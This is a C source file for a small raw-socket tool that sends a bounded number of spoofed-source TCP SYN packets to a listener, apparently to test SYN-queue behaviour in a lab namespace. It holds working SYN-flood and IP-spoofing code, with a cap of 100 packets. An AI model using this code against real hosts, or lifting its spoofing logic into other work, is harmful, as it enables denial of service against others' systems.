/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sends SYNs from addresses that nobody has, so that nobody answers the SYN-ACKs and each SYN stays in the listener's SYN queue until
 * its timeouts are over. A bounded number, into the lab's own wire; it ends when they are sent.
 *
 *   syn-flood [--netns PATH] FIRST_SOURCE DESTINATION PORT COUNT
 *
 * Source i is FIRST_SOURCE + i; COUNT is 1-100.
 */
#include "process.h"
#include "socket-address.h"

#include <arpa/inet.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define COUNT_MAX 100
#define FIRST_SOURCE_PORT 20000
#define MSS 1400

/* A SYN with one option, without which some would not call it a real one. */
struct syn {
	struct tcphdr header;
	uint8_t option[4];
};

/* What TCP's checksum covers beside the segment (RFC 9293 §3.1, RFC 8200 §8.1). */
struct pseudo_header {
	struct in6_addr source, destination; /* only the first 4 bytes of IPv4 */
	uint32_t length, protocol;
};

static uint32_t sum_words(const void *bytes, size_t length, uint32_t sum)
{
	const uint16_t *words = bytes;

	for (size_t i = 0; i < length / 2; i++)
		sum += words[i];
	return sum;
}

/* One's complement sum. That of the addresses and of zeros does not depend on where they stand, so one layout serves both families. */
static uint16_t checksum(const struct syn *syn, const struct pseudo_header *pseudo)
{
	uint32_t sum = sum_words(syn, sizeof(*syn), sum_words(pseudo, sizeof(*pseudo), 0));

	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static const void *address_bytes(const struct socket_address *address)
{
	if (address->storage.ss_family == AF_INET)
		return &((const struct sockaddr_in *)&address->storage)->sin_addr;
	return &((const struct sockaddr_in6 *)&address->storage)->sin6_addr;
}

static void send_syn(int raw, const struct socket_address *destination, const uint8_t *source, uint16_t port, int index)
{
	bool ipv4 = destination->storage.ss_family == AF_INET;
	size_t address_length = ipv4 ? 4 : 16;
	struct socket_address to = *destination;
	struct pseudo_header pseudo = { .length = htonl(sizeof(struct syn)), .protocol = htonl(IPPROTO_TCP) };
	uint8_t packet[sizeof(struct ip6_hdr) + sizeof(struct syn)];
	struct syn syn = { .header = { .source = htons(FIRST_SOURCE_PORT + index), .dest = htons(port), .seq = htonl(1000003u * (index + 1)),
				       .doff = sizeof(struct syn) / 4, .syn = 1, .window = htons(64240) },
			   .option = { TCPOPT_MAXSEG, TCPOLEN_MAXSEG, MSS >> 8, MSS & 255 } };
	size_t header_length;

	memcpy(&pseudo.source, source, address_length);
	memcpy(&pseudo.destination, address_bytes(destination), address_length);
	syn.header.check = checksum(&syn, &pseudo);
	if (ipv4) { /* the kernel fills in identification and checksum: raw(7) */
		struct iphdr ip = { .version = 4, .ihl = 5, .tot_len = htons(sizeof(ip) + sizeof(syn)), .ttl = 64, .protocol = IPPROTO_TCP };

		memcpy(&ip.saddr, &pseudo.source, 4);
		memcpy(&ip.daddr, &pseudo.destination, 4);
		memcpy(packet, &ip, header_length = sizeof(ip));
		((struct sockaddr_in *)&to.storage)->sin_port = 0;
	} else {
		struct ip6_hdr ip = { .ip6_flow = htonl(6u << 28), .ip6_plen = htons(sizeof(syn)), .ip6_nxt = IPPROTO_TCP, .ip6_hlim = 64,
				      .ip6_src = pseudo.source, .ip6_dst = pseudo.destination };

		memcpy(packet, &ip, header_length = sizeof(ip));
		((struct sockaddr_in6 *)&to.storage)->sin6_port = 0;
	}
	memcpy(packet + header_length, &syn, sizeof(syn));
	if (sendto(raw, packet, header_length + sizeof(syn), 0, (struct sockaddr *)&to.storage, to.length) < 0)
		fail("send SYN");
}

static void usage(void)
{
	fprintf(stderr, "usage: syn-flood [--netns PATH] FIRST_SOURCE DESTINATION PORT COUNT (1-%d)\n", COUNT_MAX);
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option known[] = { { "netns", required_argument, NULL, 'n' }, { 0 } };
	struct socket_address first, destination;
	uint8_t source[16];
	int option, raw, count;
	size_t last;

	while ((option = getopt_long(argc, argv, "", known, NULL)) != -1) {
		if (option != 'n')
			usage();
		enter_namespace(optarg);
	}
	if (argc - optind != 4)
		usage();
	first = parse_address(argv[optind], "0");
	destination = parse_address(argv[optind + 1], argv[optind + 2]);
	count = atoi(argv[optind + 3]);
	if (count < 1 || count > COUNT_MAX || first.storage.ss_family != destination.storage.ss_family)
		usage();
	last = first.storage.ss_family == AF_INET ? 3 : 15;
	memcpy(source, address_bytes(&first), last + 1);
	if (source[last] > 255 - COUNT_MAX)
		usage();
	raw = socket(destination.storage.ss_family, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0)
		fail("raw socket (root is needed)");
	for (int i = 0; i < count; i++, source[last]++)
		send_syn(raw, &destination, source, atoi(argv[optind + 2]), i);
	return 0;
}
